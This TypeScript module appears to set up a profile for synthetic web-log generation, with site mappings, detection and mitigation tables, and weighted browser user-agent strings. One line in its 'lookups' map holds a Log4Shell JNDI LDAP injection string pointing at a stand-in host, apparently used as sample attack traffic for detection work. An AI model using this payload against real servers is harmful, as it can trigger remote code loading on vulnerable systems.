import type { ProfileData } from '../profile-data.js';
import { chromeOnWindows, firefoxOnWindows, safariOnMac } from '../vocabulary/browsers.js';
import { detections } from './detections.js';
import { mitigations } from './mitigations.js';
import { withRequest } from './requests.js';
import { answers, withResponse } from './responses.js';

/** A blank becomes `+` in the headers. */
const inHeader = (agent: string): string => agent.replaceAll(' ', '+');

const sites = {
  'www-01.corp.example.com': { host: 'www.shop.example.com', config: '7778', policy: 'shop_16016' },
  'www-02.corp.example.com': { host: 'portal.example.com', config: '7778', policy: 'prtl_20026' },
  'www-03.corp.example.com': { host: 'api.example.com', config: '9486', policy: 'apis_20028' },
  'www-04.corp.example.com': { host: 'intranet.example.com', config: '9486', policy: 'intr_20027' },
  'www-05.corp.example.com': { host: 'static.example.com', config: '9486', policy: 'stat_20031' },
};

/** Looks like a template's place, which a template cannot hold: what Log4j looks up. */
const lookups = { '*': '${jndi:ldap://203.0.113.90:1389/a}' };

export const maps: NonNullable<ProfileData['maps']> = { sites, lookups, answers };

export const tables: NonNullable<ProfileData['tables']> = {
  detections: detections.map(withRequest).map(withResponse),
  mitigations: mitigations.map(withRequest),
  browsers: [
    {
      weight: 9,
      agent: { choice: chromeOnWindows.map(inHeader) },
      language: 'en-US,en;q=0.8',
    },
    {
      weight: 8,
      agent:
        'Mozilla/5.0+(Windows+NT+6.1;+WOW64)+AppleWebKit/537.36+(KHTML,+like+Gecko)+Chrome/57.0.2987.98+Safari/537.36',
      language: 'de-DE,de;q=0.9,en;q=0.5',
    },
    {
      weight: 7,
      agent: { choice: firefoxOnWindows.map(inHeader) },
      language: 'en-US,en;q=0.5',
    },
    {
      weight: 6,
      agent: { choice: safariOnMac.map(inHeader) },
      language: '*,en',
    },
    {
      weight: 5,
      agent:
        'Mozilla/5.0+(iPhone;+CPU+iPhone+OS+17_${between:0,6}+like+Mac+OS+X)+AppleWebKit/605.1.15+(KHTML,+like+Gecko)+Mobile/15E148',
      language: 'en-US,en;q=0.8',
    },
    {
      weight: 4,
      agent: 'Mozilla/5.0+(compatible;+MSIE+10.0;+Windows+NT+6.1;+Trident/6.0)',
      language: 'de-DE,de;q=0.9,en;q=0.5',
    },
    { weight: 3, agent: 'Mozilla/4.0+(compatible;+Win32;+WinHttp.WinHttpRequest.5)', language: 'en-US,en;q=0.5' },
    {
      weight: 2,
      agent:
        'Mozilla/5.0+(Linux;+Android+1${between:0,4};+Pixel+${between:4,8})+AppleWebKit/537.36+(KHTML,+like+Gecko)+Chrome/1${between:10,31}.0.0.0+Mobile+Safari/537.36',
      language: '*,en',
    },
  ],
};
